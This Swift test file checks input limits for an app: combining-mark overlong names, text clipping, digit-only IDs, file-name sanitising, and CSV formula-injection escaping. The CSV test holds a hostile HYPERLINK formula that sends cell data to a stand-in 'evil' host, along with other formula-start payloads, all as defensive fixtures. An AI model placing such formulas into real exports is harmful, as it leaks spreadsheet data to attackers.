import HTTP
import Testing

@testable import Appliance

/// Limits and parsing of text from outside.
@Suite(.timeLimit(.minutes(30))) struct TextLimitTests {
  static let fat = "a" + String(repeating: "\u{301}", count: 100_000)

  @Test func `one letter with a hundred thousand combining marks is too long for any name`() async throws {
    try await TestAppliance.run { test in
      let lea = try await test.person("lea")
      for (field, value) in [("name", Self.fat), ("topic", Self.fat)] {
        let refused = try await lea.send(
          "POST", "/api/chat/channels", ["type": "public", "name": "team", field: .string(value)])
        #expect(refused.status == 400, "\(field)")
      }
      #expect(
        try await lea.send("PATCH", "/api/workstation", ["name": .string(Self.fat)]).status == 400)
      #expect(
        try await lea.send("POST", "/api/tokens", ["name": .string(Self.fat), "rights": ["read"]]).status
          == 400)
      let posted = try await lea.send(
        "POST", "/api/chat/channels/1/messages", ["text": .string(Self.fat)])
      #expect(posted.code == "MESSAGE_TOO_LONG")
    }
  }

  @Test func `a text is truncated to a number of characters and four bytes for each`() {
    #expect("été".fits(3))
    #expect(!"été".fits(2))
    #expect("👨‍👩‍👧‍👦 x".fits(10))
    #expect(!Self.fat.fits(200))
    #expect(Self.fat.clipped(to: 10).utf8.count <= 40)
    #expect("longer than that".clipped(to: 6) == "longer")
    #expect("日本語".clipped(to: 2) == "日本")
  }

  @Test(arguments: ["+5", "-5", " 5", "5 ", "٥", "5\u{301}", "", "99999999999999999999", "0x5"])
  func `an id consists of digits only`(text: String) { #expect(Int64(digits: text) == nil) }

  @Test(arguments: [
    ("a/\u{301}b", "\u{301}b"), ("..\\\u{301}x", "\u{301}x"), (".\u{301}..", ".\u{301}"),
    ("\u{200B}", "file"),
  ])
  func `a combining mark after a slash or dot does not hide it`(raw: String, name: String) {
    let text = FileName(raw).text
    #expect(!text.unicodeScalars.contains("/") && !text.unicodeScalars.contains("\\"))
    if name == "file" { #expect(text == name) }
  }

  @Test func `no cell starts a formula, at whatever delimiter a spreadsheet splits`() {
    var csv = CSVText()
    csv.row([
      "Al;=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "a\t+1", "b; \"=2", "c\n@x", "-1", "plain; text",
      ";\u{ff1d}3", "\";\"\u{301}=4",
    ])
    let text = String(decoding: csv.bytes.dropFirst(3), as: UTF8.self)
    for separator: Unicode.Scalar in [",", ";", "\t", "\n"] {
      for cell in text.unicodeScalars.split(separator: separator) {
        let first = cell.first { $0 != " " && $0 != "\"" && $0 != "\r" }
        #expect(first.map { "=+@\u{ff1d}".unicodeScalars.contains($0) } != true, "\(String(cell))")
      }
    }
    #expect(text.contains("\"plain; text\""))
    #expect(text.contains("\"'-1\""))
  }
}
